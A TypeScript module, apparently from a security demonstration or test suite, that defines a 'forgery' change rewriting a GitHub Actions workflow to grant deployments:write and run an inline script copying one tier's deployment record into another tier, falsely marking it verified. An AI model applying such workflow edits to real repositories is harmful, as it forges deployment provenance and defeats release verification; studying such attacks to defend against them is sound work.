import type { Change } from '../story/deed.ts';
import { DASHBOARD } from './demo-changes.ts';

/** What whoever may push can do to the records of another tier: their branch carries its own workflow file, and that has a token which
 *  writes deployments. It copies the newest record of one tier into another, and says that it was verified there. */
export const forgery = (from: string, into: string): Change => ({
  path: '.github/workflows/test.yml',
  replace: /( {2}dashboard:\n[\s\S]*? {4}permissions:\n {6}contents: read.*\n)([\s\S]*?) {8}run: node --test/g,
  by: [
    '$1      deployments: write',
    '$2        env:',
    '          TOKEN: ${{ github.token }}',
    '        run: |-',
    `          node --input-type=module -e '${script(from, into)}'`,
  ].join('\n'),
});

const script = (from: string, into: string): string =>
  [
    'const { GITHUB_API_URL, GITHUB_REPOSITORY, GITHUB_SHA, TOKEN } = process.env;',
    'const call = async (path, body) => {',
    'const headers = { authorization: `Bearer ${TOKEN}`, "content-type": "application/json" };',
    'const asked = { headers, ...(body && { method: "POST", body: JSON.stringify(body) }) };',
    'const answer = await fetch(`${GITHUB_API_URL}/repos/${GITHUB_REPOSITORY}${path}`, asked);',
    'if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);',
    'return await answer.json(); };',
    `const [found] = await call("/deployments?environment=${from}&task=sluice:${DASHBOARD}&per_page=1");`,
    'const kept = typeof found.payload === "string" ? JSON.parse(found.payload) : found.payload;',
    `const where = { task: "sluice:${DASHBOARD}", environment: "${into}", auto_merge: false, required_contexts: [] };`,
    `const forged = await call("/deployments", { ...where, ref: GITHUB_SHA, payload: { ...kept, tier: "${into}" } });`,
    'const said = { state: "success", description: "complete: verification passed" };',
    'await call(`/deployments/${forged.id}/statuses`, said);',
  ].join(' ');
